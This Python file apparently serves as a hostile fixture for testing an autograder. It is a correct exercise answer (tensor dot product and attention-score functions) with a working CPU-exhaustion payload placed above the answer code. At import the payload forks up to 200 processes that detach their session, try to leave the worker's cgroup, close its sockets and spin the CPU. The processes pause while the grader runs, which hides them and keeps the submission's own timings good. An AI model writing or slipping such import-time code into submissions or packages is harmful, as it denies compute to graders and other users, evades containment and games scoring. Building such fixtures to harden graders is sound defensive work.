"""Hostile: a CPU hog. At import it forks as many busy processes as it may, each trying to leave for a session
(so a scheduling group) of its own and to leave the worker's cgroup, spinning whenever the worker is idle (the
grader's time, other students' time) and pausing while the worker runs (so that its own calls stay fast and score);
with PARAMS {"relentless": True} it never pauses.
Named so that the test can find them. The exercise itself is answered correctly."""
import ctypes
import os
import time

PARAMS = {}
MOST = 200
WORKER = os.getpid()
ESCAPES = ("/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/cpu/cgroup.procs", "/sys/fs/cgroup/unified/cgroup.procs")


def _worker_runs() -> bool:
    try:
        with open(f"/proc/{WORKER}/stat", "rb") as f:
            return f.read().rsplit(b")", 1)[1].split()[0] == b"R"
    except OSError:
        return False


def _hog():
    try:
        os.setsid()
    except OSError:
        pass
    for path in ESCAPES:
        try:
            with open(path, "w") as f:
                f.write("0")
        except OSError:
            pass
    ctypes.CDLL(None).prctl(15, PARAMS.get("token", "cpu-hog").encode()[:15], 0, 0, 0)  # PR_SET_NAME
    for fd in range(3, 64):  # keep nothing of the worker's, its socket included
        try:
            os.close(fd)
        except OSError:
            pass
    while True:
        spin_until = time.monotonic() + 0.01
        while time.monotonic() < spin_until:
            pass
        while not PARAMS.get("relentless") and _worker_runs():
            time.sleep(0.02)


def _start():
    for _ in range(MOST):
        try:
            if os.fork() == 0:
                try:
                    _hog()
                finally:
                    os._exit(0)
        except OSError:
            return


_start()


def dot(a, b):
    if a.dim() != 1 or b.dim() != 1 or a.shape != b.shape:
        raise ValueError(f"dot needs two 1-D tensors of the same length, got shapes {tuple(a.shape)} and {tuple(b.shape)}")
    return (a * b).sum()


def pairwise_scores(x):
    if x.dim() < 2:
        raise ValueError(f"pairwise_scores needs a (..., T, d) tensor, got shape {tuple(x.shape)}")
    return x @ x.transpose(-2, -1)


def attention_scores(queries, keys):
    if queries.dim() < 2 or keys.dim() < 2 or queries.shape[-1] != keys.shape[-1]:
        raise ValueError(f"queries (..., Tq, d) and keys (..., Tk, d) must share d, got shapes {tuple(queries.shape)} and {tuple(keys.shape)}")
    return queries @ keys.transpose(-2, -1)
